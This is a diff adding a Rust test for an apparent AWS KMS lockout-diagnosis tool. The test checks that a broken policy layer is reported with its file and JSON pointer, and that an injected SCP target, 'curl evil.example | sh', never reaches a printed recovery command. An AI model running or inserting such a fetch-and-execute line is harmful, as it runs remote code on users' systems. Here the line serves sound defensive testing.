@@ -223,6 +223,86 @@ fn a_hostile_bundle_is_refused() {
     }
 }
 
+/// A bundle's recorded layers (issue 13) are input like the rest: a policy that is not JSON
+/// is exit 1 naming the file and its JSON pointer, and an SCP level whose target holds a
+/// command still decides the chain but never reaches a printed command.
+#[test]
+fn a_bundle_with_broken_or_hostile_layers() {
+    let dir = tempfile::tempdir().unwrap();
+    let default_policy = kmsdoctor::analysis::lockout::default_policy("111122223333");
+    let bundle = |layers: serde_json::Value| {
+        serde_json::json!({
+            "kind": "kmsdoctor-evidence-bundle",
+            "schema_version": 1,
+            "collected_at": "2026-11-23T00:00:00Z",
+            "region": "us-east-1",
+            "key_input": KEY,
+            "key": {"id": "1234abcd-12ab-34cd-56ef-1234567890ab", "arn": KEY, "account": "111122223333", "region": "us-east-1"},
+            "caller": {"arn": "arn:aws:sts::111122223333:assumed-role/Admin/alice", "account": "111122223333", "user_id": "AROAEXAMPLE:alice"},
+            "caller_principal_arn": "arn:aws:iam::111122223333:role/Admin",
+            "key_facts": {"resolved_by": "describe_key", "creation_date": null, "key_state": null, "key_manager": null, "policy": default_policy, "policy_error": null, "aliases": null, "problems": []},
+            "records": [],
+            "lookup": {"calls": 0, "pages": 0, "records": 0, "unreadable": 0, "complete": true, "problems": []},
+            "existence": {},
+            "simulation": null,
+            "layers": layers,
+            "problems": []
+        })
+    };
+    let allow_all =
+        r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
+    let broken = bundle(serde_json::json!({
+        "principal": "arn:aws:iam::111122223333:role/Admin",
+        "identity": [{"name": "ok", "source": "inline policy ok of role Admin", "document": allow_all},
+                     {"name": "bad", "source": "inline policy bad of role Admin", "document": "{\"Statement\": ["}]
+    }));
+    let p = dir.path().join("broken-layers.json");
+    std::fs::write(&p, broken.to_string()).unwrap();
+    let (code, out, err) = kmsdoctor(&["why-locked", "--from", p.to_str().unwrap(), KEY]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(err.contains("broken-layers.json"), "{err}");
+    assert!(err.contains("(at /layers/identity/1/document)"), "{err}");
+    assert!(err.contains("inline policy bad of role Admin"), "{err}");
+
+    let evil_target = "r-ab12; curl evil.example | sh; #";
+    let hostile = bundle(serde_json::json!({
+        "principal": "arn:aws:iam::111122223333:role/Admin",
+        "identity": [{"name": "admin", "source": "inline policy admin of role Admin", "document": allow_all}],
+        "boundary": {"state": "none"},
+        "scps": [{"target": evil_target, "policies": [
+            {"name": "deny", "source": "SERVICE_CONTROL_POLICY p-1", "document":
+             r#"{"Version":"2012-10-17","Statement":[{"Sid":"NoKeyPolicy","Effect":"Deny","Action":"kms:PutKeyPolicy","Resource":"*"}]}"#}]}],
+        "management_account": "999988887777"
+    }));
+    let p = dir.path().join("hostile-layers.json");
+    std::fs::write(&p, hostile.to_string()).unwrap();
+    let (code, out, err) = kmsdoctor(&[
+        "why-locked",
+        "--from",
+        p.to_str().unwrap(),
+        KEY,
+        "--output",
+        "json",
+    ]);
+    assert_eq!(code, 0, "the key policy is ok: {out}{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["caller"]["denied_by"], "scp", "{v}");
+    assert_eq!(v["caller"]["denied_at"], evil_target, "{v}");
+    for step in v["recovery_plan"].as_array().unwrap() {
+        assert!(
+            step["command"].is_null(),
+            "no command is printed for a target that is not one: {step}"
+        );
+    }
+    let (_, table, _) = kmsdoctor(&["why-locked", "--from", p.to_str().unwrap(), KEY]);
+    assert!(
+        !table
+            .lines()
+            .any(|l| l.trim_start().starts_with('$') && l.contains("curl")),
+        "{table}"
+    );
+}
+
 /// `check` and `explain` tables (CI logs, terminals) show control characters escaped, from
 /// Sids, principals and condition values alike.
 #[test]
